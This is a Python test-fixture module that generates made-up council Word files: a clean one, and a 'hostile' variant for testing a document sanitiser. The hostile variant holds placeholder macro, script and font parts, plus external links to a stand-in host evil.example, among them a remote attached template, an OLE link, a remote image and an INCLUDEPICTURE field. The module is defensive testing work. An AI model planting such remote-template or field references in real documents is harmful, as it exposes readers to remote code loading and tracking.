"""Word files as councils have them, made up: a good one, and the same with what must not get into a plan."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Inches, Pt, RGBColor
from PIL import Image, ImageDraw

GREEN = "1F6B45"


def logo() -> bytes:
    """Return a small picture: a green shield on white."""
    picture = Image.new("RGB", (120, 120), "white")
    ImageDraw.Draw(picture).polygon([(10, 10), (110, 10), (110, 70), (60, 115), (10, 70)], fill=f"#{GREEN}")
    buffer = BytesIO()
    picture.save(buffer, "PNG")
    return buffer.getvalue()


def council(*, numbered: bool = False) -> bytes:
    """Return a council's file: Letter paper, serif text, green headings, a logo and words in header and footer."""
    document = docx.Document()
    for name in ("Normal", "Title", "Heading 1", "Heading 2", "Heading 3", "Caption", "List Bullet"):
        style = document.styles[name]
        style.font.name = "Georgia"
        fonts = style.element.rPr.rFonts
        for theme in [a for a in fonts.attrib if a.endswith("Theme")]:
            del fonts.attrib[theme]
    for name, size in (
        ("Title", 30),
        ("Heading 1", 22),
        ("Heading 2", 16),
        ("Heading 3", 13),
        ("Caption", 10),
    ):
        document.styles[name].font.size = Pt(size)
        document.styles[name].font.color.rgb = RGBColor.from_string(GREEN)
    section = document.sections[0]
    section.page_width, section.page_height = Inches(8.5), Inches(11)
    section.left_margin = section.right_margin = Inches(1.2)
    head = section.header.paragraphs[0]
    head.add_run().add_picture(BytesIO(logo()), height=Inches(0.5))
    head.add_run("  Borough of Example – serving our children")
    foot = section.footer.paragraphs[0]
    foot.add_run("Town Hall, Example EX1 1AA")
    if numbered:
        foot.add_run(" – page ")
        foot._p.append(
            parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>')
        )
    document.add_heading("A report of the council", 1)
    document.add_paragraph("THE COUNCIL'S OWN TEXT must not be printed.")
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def changed(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """Return a Word file whose parts were changed by name."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def hostile() -> bytes:
    """Return a council's file with macros, links, embedded things, a stale field, text boxes and hidden text."""

    def change(parts: dict[str, bytes]) -> None:
        relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        microsoft = "http://schemas.microsoft.com/office/2006/relationships"
        types = parts["[Content_Types].xml"].replace(
            b"officedocument.wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
        )
        parts["[Content_Types].xml"] = types.replace(
            b"<Default ",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
            1,
        )
        parts["word/vbaProject.bin"] = b"EVIL-MACRO"
        parts["word/evil.html"] = b"<script>EVIL-SCRIPT</script>"
        parts["word/fonts/font1.odttf"] = b"EVIL-FONT"
        _relate(
            parts,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rX1" Type="{microsoft}/vbaProject" Target="vbaProject.bin"/>'
            f'<Relationship Id="rX2" Type="{relation}/aFChunk" Target="evil.html"/>'
            f'<Relationship Id="rX3" Type="{relation}/oleObject" Target="http://evil.example" TargetMode="External"/>',
        )
        _relate(
            parts,
            "word/_rels/settings.xml.rels",
            f'<Relationship Id="rX1" Type="{relation}/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/>',
        )
        _relate(
            parts,
            "word/_rels/fontTable.xml.rels",
            f'<Relationship Id="rX1" Type="{relation}/font" Target="fonts/font1.odttf"/>',
        )
        header = next(n for n in parts if n.startswith("word/header"))
        _relate(
            parts,
            f"word/_rels/{header.removeprefix('word/')}.rels",
            f'<Relationship Id="rX1" Type="{relation}/image" Target="http://evil.example/p.png" TargetMode="External"/>'
            f'<Relationship Id="rX2" Type="{relation}/hyperlink" Target="http://evil.example/" TargetMode="External"/>',
        )
        parts[header] = parts[header].replace(b"</w:hdr>", _ODD.encode() + b"</w:hdr>")
        fonts = parts["word/fontTable.xml"]
        parts["word/fontTable.xml"] = fonts.replace(
            b"</w:font>",
            f'<w:embedRegular xmlns:r="{relation}" r:id="rX1" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/>'
            "</w:font>".encode(),
            1,
        )

    return changed(council(), change)


def _relate(parts: dict[str, bytes], name: str, relationships: str) -> None:
    whole = parts.get(
        name,
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    parts[name] = whole.replace(b"</Relationships>", relationships.encode() + b"</Relationships>")


_ODD = (
    '<w:p><w:pPr><w:pStyle w:val="NoSuchStyle"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="77"/></w:numPr></w:pPr>'
    '<w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rX2"><w:r>'
    "<w:t>our website</w:t></w:r></w:hyperlink>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>STALE</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    "<w:r><w:rPr><w:vanish/></w:rPr><w:t> hidden</w:t></w:r>"
    '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice '
    'Requires="wps"><w:drawing><w:txbxContent><w:p><w:r><w:t>From a text box</w:t></w:r></w:p></w:txbxContent>'
    "</w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent><w:p><w:r><w:t>From a text box</w:t></w:r></w:p>"
    "</w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object></w:r></w:p>'
)
